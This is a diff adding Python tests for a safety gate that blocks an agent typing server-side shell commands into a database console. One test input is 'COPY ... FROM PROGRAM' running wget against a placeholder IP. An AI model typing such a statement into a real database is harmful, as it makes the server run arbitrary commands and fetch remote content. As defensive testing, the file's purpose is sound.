@@ -1,0 +1,26 @@
+"""A statement typed into a database console that has the server run a shell command blocks; copying to a file
+and queries pass."""
+
+from __future__ import annotations
+
+from gate import Observation, SafetyGate, action_from_dict
+
+GATE = SafetyGate()
+PSQL = dict(app="pgcli", window_title="pgcli inventory")
+
+
+def _decide(text: str) -> tuple[str, list[str]]:
+    r = GATE.assess(action_from_dict({"type": "type", "text": text}), Observation(**PSQL))
+    return r.decision.value, [h.rule for h in r.hits]
+
+
+def test_copy_from_program_typed_into_a_database_console_blocks() -> None:
+    decision, rules = _decide("COPY audit FROM PROGRAM 'wget -qO- http://192.0.2.8/a.csv';")
+    assert decision == "block"
+    assert "block.typed.database-runs-program" in rules
+
+
+def test_copy_to_a_file_and_a_query_pass_this_rule() -> None:
+    for text in ("COPY audit TO '/tmp/audit.csv' CSV HEADER;", "SELECT count(*) FROM audit;"):
+        _, rules = _decide(text)
+        assert "block.typed.database-runs-program" not in rules
